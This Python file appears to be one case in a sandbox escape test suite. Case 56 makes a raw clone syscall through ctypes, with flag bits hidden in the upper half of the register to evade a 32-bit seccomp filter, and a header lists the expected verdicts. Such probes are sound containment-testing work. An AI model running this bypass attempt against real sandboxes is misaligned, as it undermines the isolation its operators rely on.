"""
number = 56
family = "escape"
what = "hide flags of clone in the upper half of the register, where a filter of 32 bits does not look"
stopped_by = ["the kernel does not look there either", "seccomp"]
verdicts = {full = ["passed"], contained = ["passed"], limited = ["any"]}
"""

import ctypes
import os


def system_call(x86_64: int, aarch64: int, *arguments: int) -> tuple[int, str]:
    libc = ctypes.CDLL(None, use_errno=True)
    number = x86_64 if os.uname().machine == "x86_64" else aarch64
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(value) for value in arguments))
    return result, os.strerror(ctypes.get_errno())


def attack(targets: dict) -> str:
    result, why = system_call(56, 220, (1 << 48) | 17, 0, 0, 0, 0)
    if result == 0:
        os._exit(0)
    return "succeeded: a process" if result > 0 else f"stopped: {why}"
